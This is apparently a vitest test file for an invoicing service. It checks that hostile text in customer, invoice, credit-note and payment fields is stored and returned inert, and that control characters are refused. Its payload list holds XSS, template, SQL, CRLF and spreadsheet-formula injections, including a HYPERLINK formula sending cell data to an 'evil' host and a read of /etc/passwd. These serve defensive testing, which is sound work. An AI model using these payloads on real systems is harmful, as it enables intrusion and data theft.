// Whatever people write into a customer, a line or a note is text: it comes back as it was written,
// also on the paper, and nothing in it is obeyed.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Got } from '#tests/support/server.ts';
import { idOf } from '#tests/support/team.ts';
import { detailOf, onInvoice, openHouse } from './house.ts';
import type { House } from './house.ts';
import { BALES, done } from './requests.ts';

let house: House;
beforeAll(async () => {
  house = await openHouse();
});
afterAll(() => house.close());

/** Markup, formulas, templates, headers, both directions, look-alikes, long words. */
const TEXTS = [
  '<img src=x onerror=alert(1)>',
  '</title><script>alert(1)</script>',
  '<link rel=stylesheet href=http://127.0.0.1:1/x.css>',
  '${alert(1)} #{7*7} <%= 7*7 %> {{7*7}}',
  '#set page(width: 1pt) #read("/etc/passwd") $x$ *b* _i_ `c` @r \\',
  '=HYPERLINK("http://evil?x="&A1,"x")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '＝1+1',
  "Robert'); DROP TABLE invoices;--",
  'Аcme (Cyrillic) ﷺ 𝔸',
  '\u202eevil\u202c \u200f₹1,000',
  'एक दुकान, ஒரு கடை',
  'W'.repeat(90),
  '-',
  '..',
  '%00 %0d%0aSet-Cookie: x=1',
  'NaN',
  'null',
  '__proto__',
  'Shop\\nBcc: v@y.in',
];

describe.each(TEXTS)('%j', (hostile) => {
  it('is a name, a line, a note and a reason like any other', async () => {
    const lines = `${hostile}\n\t${hostile}`;
    const body = {
      name: hostile,
      company: hostile,
      contact: hostile,
      address: lines,
      city: hostile,
      state_code: '27',
    };
    const customer = done(await house.owner('createCustomer', { body }));
    expect(customer.body).toMatchObject(body);
    const query = { search: hostile };
    expect((await house.owner('listCustomers', { query })).status).toBe(200);
    expect((await house.owner('listInvoices', { query })).status).toBe(200);
    const texts = { delivery: hostile, reference: hostile, notes: lines, terms: lines };
    const items = [{ ...BALES, name: hostile, description: lines, unit: hostile.slice(0, 30) }];
    const made = done(
      await house.owner('createInvoice', {
        body: { customer_id: idOf(customer), ...texts, items, issue: true },
      }),
    );
    expect(made.body).toMatchObject({ ...texts, recipient: { name: hostile } });
    const { id } = detailOf(made);
    const call = onInvoice(house);
    const credited = await call('issueCreditNote', id, {
      reason: '07',
      note: lines,
      lines: [
        {
          line: 1,
          quantity: '0.1',
        },
      ],
    });
    expect(credited.body).toMatchObject({ credit_notes: [{ note: lines }] });
    const paid = await call('recordPayment', id, { method: 'card', reference: hostile });
    expect(paid.body).toMatchObject({ payments: [{ reference: hostile }] });
    const params = { invoiceId: id };
    const paper = done(await house.owner('readInvoicePaper', { params })).body;
    expect(JSON.stringify(paper)).toContain(JSON.stringify(hostile.slice(0, 4)).slice(1, -1));
    const pdf = await house.owner('readInvoicePdf', { params });
    expect([pdf.status, String(pdf.body).slice(0, 5)]).toStrictEqual([200, '%PDF-']);
    expect(pdf.headers.get('Content-Disposition')).toMatch(/^attachment; filename="[\w.-]+"$/);
  });
});

/** A field may be wrong in two ways at once: it is named for each. */
function expectNamed({ status, body }: Got, field: string): void {
  const { errors } = body as { errors: readonly { field: string }[] };
  expect([status, new Set(errors.map((one) => one.field))]).toStrictEqual([400, new Set([field])]);
}

const BROKEN = ['a\u0000b', 'a\u0007b', '\ud800', 'a\r\nb\u001b[2J'];
const LONG = 'x'.repeat(10_000);

describe.each(
  [...BROKEN, LONG].map((text) => ({ text, short: JSON.stringify(text.slice(0, 12)) })),
)('$short', ({ text }) => {
  it('is refused by the name of its field, wherever a text is written', async () => {
    const customer = (field: string) =>
      house.owner('createCustomer', { body: { name: 'Good', [field]: text } });
    for (const field of ['name', 'company', 'phone', 'contact', 'address', 'city', 'pincode']) {
      expectNamed(await customer(field), field);
    }
    for (const field of ['email', 'gst_number', 'pan', 'country', 'state_code']) {
      expectNamed(await customer(field), field);
    }
    const { mills } = house.customers;
    const bill = (body: object, item: object = {}) =>
      house.owner('createInvoice', {
        body: { customer_id: mills, items: [{ ...BALES, ...item }], ...body },
      });
    for (const field of ['delivery', 'reference', 'notes', 'terms']) {
      expectNamed(await bill({ [field]: text }), field);
    }
    for (const field of ['name', 'description', 'hsn', 'uqc', 'unit']) {
      expectNamed(await bill({}, { [field]: text }), `items.0.${field}`);
    }
    const { id } = detailOf(done(await bill({ issue: true })));
    const call = onInvoice(house);
    expectNamed(await call('cancelInvoice', id, { reason: text }), 'reason');
    expectNamed(await call('issueCreditNote', id, { reason: '01', note: text }), 'note');
    const payment = { method: 'cash', reference: text };
    expectNamed(await call('recordPayment', id, payment), 'reference');
    expectNamed(await call('emailInvoice', id, { to: text }), 'to');
    const params = { bookId: house.bookId };
    for (const field of ['legal_name', 'address', 'city', 'terms', 'notes', 'lut', 'phone']) {
      const got = await house.owner('changeBillingSettings', { params, body: { [field]: text } });
      expectNamed(got, field);
    }
  });
});

describe('a customer', () => {
  it.each([
    ['27AAPFU0939F1ZW', 'customer_gstin_invalid'],
    ['99AAPFU0939F1ZV', 'customer_gstin_invalid'],
    ['27AAPFUO939F1ZV', 'customer_gstin_invalid'],
  ])('is refused with the GSTIN %s, one character wrong', async (gstin, code) => {
    const body = { name: 'Wrong', gst_number: gstin };
    const got = await house.owner('createCustomer', { body });
    expect(got).toMatchObject({ status: 422, body: { code, facts: { gstin } } });
  });

  it('a customer whose name is as long as may be, twice, has two ledgers', async () => {
    const body = { name: 'N'.repeat(100) };
    done(await house.owner('createCustomer', { body }));
    done(await house.owner('createCustomer', { body }));
  });
});
